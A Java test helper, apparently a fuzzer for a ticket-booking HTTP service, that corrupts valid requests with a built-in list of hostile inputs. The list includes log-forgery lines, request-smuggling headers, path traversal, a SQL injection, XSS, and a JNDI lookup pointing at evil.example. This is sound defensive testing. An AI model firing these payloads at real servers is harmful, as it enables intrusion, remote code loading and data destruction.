package boxoffice;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * Requests that were good before some of their bytes were lost, doubled, replaced, or joined by
 * what HTTP, JSON, UTF-8, paths, numbers, SQL and logs have stumbled over before. The same seed
 * makes the same requests.
 */
final class MutatedRequests {
  /** What a line of the log would begin with that a client made up. */
  static final String FORGED = "2026-01-01T00:00:00.000Z [main] ERROR Forged - ";

  private static final int MOST_CHANGES = 4;
  private static final int MOST_BYTES = 24;
  private static final int FIRST_LINE = 20;

  /** Raw, as JSON escapes it, and as paths and queries do. */
  private static final List<String> FORGERIES =
      List.of(
          FORGED,
          "\r\n" + FORGED,
          "\n" + FORGED,
          "\\n" + FORGED,
          "%0d%0a" + FORGED.replace(" ", "%20"),
          "%0A" + FORGED.replace(" ", "+"),
          FORGED.replace(" ", "%20"));

  private static final List<String> WORDS =
      List.of(
          "\r\n",
          "\r\n\r\n",
          "\n",
          "\r",
          "\t",
          "\u0000",
          "\u007f",
          "\u001b[2J",
          "\\u000a",
          "\\u0000",
          "\\ud800",
          "\\udfff\\ud800",
          "\u2028",
          "\u0085",
          "\u00c0\u0080", // overlong
          "\u00ff\u00fe",
          "\u00ed\u00a0\u0080", // a surrogate
          "Transfer-Encoding: chunked\r\n",
          "Transfer-Encoding: identity, chunked\r\n",
          "Content-Length: 0\r\n",
          "Content-Length: 7\r\n",
          "Content-Length: -1\r\n",
          "Content-Length: 18446744073709551616\r\n",
          "Content-Type: text/xml; charset=utf-16\r\n",
          "Content-Encoding: gzip\r\n",
          "Expect: 100-continue\r\n",
          "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n",
          "Host: evil.example\r\n",
          "X-Forwarded-For: 1.2.3.4, ::1%0, \"\r\n",
          "Authorization: Bearer e30.e30.\r\n",
          "Authorization: Basic Og==\r\n",
          "Idempotency-Key: \"a\\\"\r\n",
          "Idempotency-Key: \"k\";a=?1;b=:AA==:\r\n",
          "Accept: application/problem+json;q=0.1, */*;q=x\r\n",
          "Sec-Fetch-Site: cross-site\r\n",
          "X: " + "y".repeat(9_000) + "\r\n",
          "0\r\n\r\n",
          "ffffffffffffffff\r\n",
          "5;a=\"b\"\r\nhello\r\n",
          "/../",
          "/..;/",
          "//",
          "\\",
          "%2e%2e%2f",
          "%2F",
          "%00",
          "%",
          "%zz",
          "%ff",
          ";a=b",
          "?limit=",
          "&before=",
          "#",
          "*",
          "http://evil.example/",
          "-1",
          "0",
          "-0",
          "1e2",
          "1.0",
          "1E400",
          "007",
          "9007199254740993",
          "9223372036854775808",
          "NaN",
          "null",
          "true",
          "[".repeat(2_000),
          "{\"a\":".repeat(1_500),
          "\"userId\":2,",
          "\"totalTickets\":1e9,",
          "\"__proto__\":{},",
          "'; drop table reservation; --",
          "${jndi:ldap://evil.example}",
          "<script>alert(1)</script>",
          "HTTP/1.0",
          "HTTP/2.0",
          "TRACE ",
          "CONNECT ",
          "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

  private final Random random;
  private final List<Good> all;

  /**
   * @param headers that each request has, such as a token; each with its end of line
   */
  MutatedRequests(long seed, String headers) {
    this.random = new Random(seed);
    this.all =
        Stream.of(
                request("GET /events", headers, ""),
                request("GET /events/1", headers, ""),
                request("GET /events?limit=3&before=9", headers, ""),
                request("GET /users/1/reservations?limit=2", headers, ""),
                request("GET /reservations/1", headers, ""),
                request("DELETE /reservations/1", headers, ""),
                request("POST /users", headers, "{\"name\":\"Kim\"}"),
                request(
                    "POST /users",
                    headers + "Idempotency-Key: \"once\"\r\n",
                    "{\"userId\":77,\"name\":\"김\"}"),
                request("POST /events", headers, "{\"eventName\":\"Encore\",\"totalTickets\":5}"),
                request("PATCH /events/1", headers, "{\"totalTickets\":500}"),
                request("POST /events/1/reservations", headers, "{\"userId\":1}"),
                request(
                    "POST /events/1/reservations",
                    headers + "Idempotency-Key: \"4b7e1c2a\"\r\n",
                    "{\"userId\":1}"),
                request("GET /operations/failed-writes?limit=5", headers, ""),
                request("GET /operations/audit?limit=1&before=2", headers, ""),
                request("GET /operations/lab", headers, ""),
                request("GET /metrics", headers, ""),
                request("GET /readyz", headers, ""),
                request("GET /openapi.json", headers, ""),
                request("GET /", headers, ""),
                chunked("POST /users", headers, "{\"name\":\"Kim\"}"))
            .toList();
  }

  private static Good request(String line, String headers, String body) {
    return new Good(line + " HTTP/1.1\r\nHost: localhost\r\n" + headers, false, body);
  }

  private static Good chunked(String line, String headers, String body) {
    return new Good(line + " HTTP/1.1\r\nHost: localhost\r\n" + headers, true, body);
  }

  /** Another one each time; of half of them that have a body the length is right all the same. */
  byte[] next() {
    Good good = one(all);
    if (!good.body().isEmpty() && random.nextBoolean()) {
      return good.with(changedOften(bytes(good.body())));
    }
    return changedOften(good.whole());
  }

  private byte[] changedOften(byte[] good) {
    byte[] bytes = good;
    for (int change = random.nextInt(MOST_CHANGES); change >= 0; change--) {
      bytes = changed(bytes);
    }
    return bytes;
  }

  private byte[] changed(byte[] request) {
    int reach = random.nextInt(3) == 0 ? Math.min(FIRST_LINE, request.length) : request.length;
    int at = random.nextInt(reach + 1);
    int end = Math.min(request.length, at + random.nextInt(MOST_BYTES));
    return switch (random.nextInt(6)) {
      case 0 -> joined(head(request, at), word(), tail(request, at));
      case 1 -> joined(head(request, at), word(), tail(request, end));
      case 2 -> joined(head(request, at), tail(request, end));
      case 3 -> joined(head(request, end), tail(request, at));
      case 4 -> joined(head(request, at), noise(), tail(request, end));
      default -> joined(request, one(all).whole()); // two on one connection
    };
  }

  private byte[] word() {
    String word = one(random.nextInt(3) == 0 ? FORGERIES : WORDS);
    return word.getBytes(
        random.nextBoolean() ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8);
  }

  private byte[] noise() {
    byte[] bytes = new byte[1 + random.nextInt(MOST_BYTES)];
    random.nextBytes(bytes);
    return bytes;
  }

  private <T> T one(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }

  private static byte[] head(byte[] bytes, int end) {
    return Arrays.copyOfRange(bytes, 0, end);
  }

  private static byte[] tail(byte[] bytes, int begin) {
    return Arrays.copyOfRange(bytes, begin, bytes.length);
  }

  private static byte[] joined(byte[]... parts) {
    var all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  /**
   * @param head without what tells the length of the body
   */
  private record Good(String head, boolean inChunks, String body) {
    byte[] whole() {
      return with(bytes(body));
    }

    /** It with another body, and the length of that. */
    byte[] with(byte[] content) {
      if (inChunks) {
        String size = Integer.toHexString(content.length);
        byte[] begin = bytes(head + "Transfer-Encoding: chunked\r\n\r\n" + size + "\r\n");
        return joined(begin, content, bytes("\r\n0\r\n\r\n"));
      }
      String length = body.isEmpty() ? "" : "Content-Length: " + content.length + "\r\n";
      return joined(bytes(head + length + "\r\n"), content);
    }
  }
}
